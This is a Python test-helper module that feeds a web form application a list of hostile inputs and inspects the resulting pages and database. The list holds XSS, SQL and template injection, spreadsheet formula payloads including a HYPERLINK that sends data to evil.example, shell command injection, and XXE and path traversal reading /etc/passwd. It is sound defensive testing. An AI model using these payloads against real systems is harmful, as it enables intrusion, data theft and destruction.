"""Hostile texts, the shape of a page, and how an attacker knocks: shared by the attacks."""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from capture.core.db import Base, db
from tests.products import Product, typed

STANDARD = Path(__file__).parents[1] / "site.yaml"
LISTS = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "abuse"
JSON_URL = "/api/v1/forms/guide/submissions"
# Without script a button of an editor sends what is typed to the preview beside it.
OUR_PREVIEW = re.compile(r"/console/[a-z]+/[\w/-]+/preview")
VISITOR = "Vis1tor_of-the-attacks"
CHROME = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126 Safari/537.36"
}

NAUGHTY = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "</title></textarea></style></script><svg/onload=alert(1)>",
    "<!--<script>--><b>--!>",
    "<![CDATA[<i>]]>",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
    '<a href="https://evil.example" target=_blank>win</a>',
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "{{7777*7777}} {{config}} {{request.application}}",
    "${7777*7777} #{7777*7777} <%= 7777*7777 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "%(user)s %s %n {0} {user.password_hash}",
    "'; DROP TABLE lead; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    "%' ESCAPE '!' UNION SELECT digest FROM sign_in --",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "../../../../etc/passwd\\..\\boot.ini",
    "$(touch /tmp/pwned) `id` | id ; id",
    "() { :; }; echo vulnerable",
    "\r\nSet-Cookie: owned=1\r\n\r\n<b>",
    "(|(uid=*)(objectClass=*))",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "\u202egnp.exe\u202c \u2066\u2069",
    "a\u200bb\u200d\ufeffc\u00add",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA",
    "👩‍👩‍👧‍👦 🇻🇳 \U000e0067\U000e0062 ﷽ 𝒳",
    "e\u0302\u0301 a\u0306\u0309 \u1ef7",
    "\x1b[31mred\x1b[0m \x08\x08 \x07 end",
    "NULL undefined None nan Infinity -0 0x0 1e309",
    "x\u2028y\u2029z",
)


def public_list(name: str) -> list[str]:
    """One of the published lists, where it is present."""
    path = LISTS / name
    if not path.is_file():
        pytest.skip(f"the list {name} is not present here")
    text = path.read_text(encoding="utf-8")
    found = json.loads(text) if name.endswith(".json") else text.splitlines()
    return [str(one) for one in found if str(one).strip()]


class Shape(HTMLParser):
    """Counts each element with the names of its attributes, and keeps what could run or lead away."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.counted: Counter[tuple[str, ...]] = Counter()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.counted[(tag, *sorted(name for name, _value in attrs))] += 1
        for name, value in attrs:
            self._weigh(tag, name, (value or "").strip())

    def handle_comment(self, data: str) -> None:
        self.counted[("!--",)] += 1

    def _weigh(self, tag: str, name: str, value: str) -> None:
        if name == "formaction" and OUR_PREVIEW.fullmatch(value):
            return
        if name.startswith("on") or name in {"style", "srcdoc", "formaction", "http-equiv"}:
            self.dangers.append(f"<{tag} {name}={value[:60]!r}>")
        if name in {"href", "src", "action"} and value.lower().startswith(
            ("javascript:", "data:text", "//", "vbscript:")
        ):
            self.dangers.append(f"<{tag} {name}={value[:60]!r}>")


def shape_of(html: str) -> Shape:
    shape = Shape()
    shape.feed(html)
    shape.close()
    return shape


def difference(hostile: str, benign: str) -> dict[tuple[str, ...], int]:
    """Elements of which the hostile page has more or fewer than its benign twin."""
    one, other = shape_of(hostile).counted, shape_of(benign).counted
    return {element: one[element] - other[element] for element in {*one, *other} if one[element] != other[element]}


def everything_stored(product: Product) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table."""
    db.session.rollback()
    tables = Base.metadata.sorted_tables
    found = {table.name: sorted(map(repr, db.session.execute(select(table)).all())) for table in tables}  # type: ignore[misc]
    db.session.rollback()  # an open look would be cut off as idle while the test works on
    return found


def statuses(cases: Mapping[str, Callable[[], Any]]) -> dict[str, int | str]:
    """The status of each case; an exception that came through is told as such."""
    found: dict[str, int | str] = {}
    for name, knock in cases.items():
        try:
            found[name] = knock().status_code
        except Exception as error:
            found[name] = f"{type(error).__name__}: {str(error)[:120]}"
    return found


def unwanted(found: Mapping[str, int | str], wanted: Iterable[int]) -> dict[str, int | str]:
    allowed = set(wanted)
    return {name: status for name, status in found.items() if status not in allowed}


def still_works(product: Product, email: str = "right.after@example.com") -> bool:
    """A normal submission succeeds."""
    answer = product.app.test_client().post("/f/guide", data={**typed(email=email, phone=None), "_page": "guide"})
    return answer.status_code == 303


def chunks(texts: Iterable[str], length: int) -> Iterator[str]:
    """The texts joined to pieces of at most `length` characters."""
    piece = ""
    for text in texts:
        text = text[:length]
        if piece and len(piece) + len(text) + 1 > length:
            yield piece
            piece = ""
        piece = f"{piece} {text}".strip()
    if piece:
        yield piece
